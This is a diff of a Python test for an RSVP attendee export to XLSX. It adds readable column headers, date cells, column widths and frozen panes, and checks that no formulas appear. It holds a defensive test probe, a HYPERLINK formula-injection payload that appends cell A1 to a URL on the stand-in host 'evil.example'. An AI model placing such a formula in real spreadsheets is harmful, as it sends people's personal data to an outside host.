@@ -41,6 +41,25 @@ HEADER = [
     "note",
     "created_at",
 ]
+# The workbook's header: the same columns, for people.
+XLSX_HEADER = [
+    "RSVP code",
+    "Forum",
+    "Name",
+    "Email",
+    "People",
+    "Status",
+    "Arrived",
+    "Language for emails",
+    "People who need an interpreter",
+    "Interpreter language",
+    "People who need ASL",
+    "People who need live captions",
+    "Children who need childcare",
+    "People who need wheelchair or mobility access",
+    "Note",
+    "Day of the RSVP",
+]
 NO_STORE = "no-store, max-age=0, no-cache, must-revalidate, private"
 PROBE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -152,7 +171,7 @@ def test_xlsx_holds_the_same_rows_and_never_a_formula(client, forum):
     assert sheet.title == "Attendees"
     rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
     assert rows == [
-        HEADER,
+        XLSX_HEADER,
         [
             "AAA111",
             "Forum",
@@ -169,7 +188,7 @@ def test_xlsx_holds_the_same_rows_and_never_a_formula(client, forum):
             1,
             0,
             "Stroller",
-            "2026-01-10",  # the day only
+            datetime.datetime(2026, 1, 10, 0, 0),  # the day only, a date cell
         ],
         [
             "BBB222",
@@ -187,11 +206,16 @@ def test_xlsx_holds_the_same_rows_and_never_a_formula(client, forum):
             0,
             0,
             "+1 555\ufffdbell @me -minus",
-            "2026-01-11",
+            datetime.datetime(2026, 1, 11, 0, 0),
         ],
     ]
     types = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
-    assert types == {"s", "n"}
+    assert types == {"s", "n", "d"}
+    assert [sheet["P2"].number_format, sheet["P3"].number_format] == ["yyyy-mm-dd"] * 2
+    # Each column as wide as its longest value or label, and a little room.
+    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNOP"]
+    assert widths == [11, 7, 48, 19, 8, 12, 9, 21, 32, 22, 21, 31, 29, 47, 24, 17]
+    assert sheet.freeze_panes == "A2"
     sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml
     assert sheet["C3"].data_type == "s"
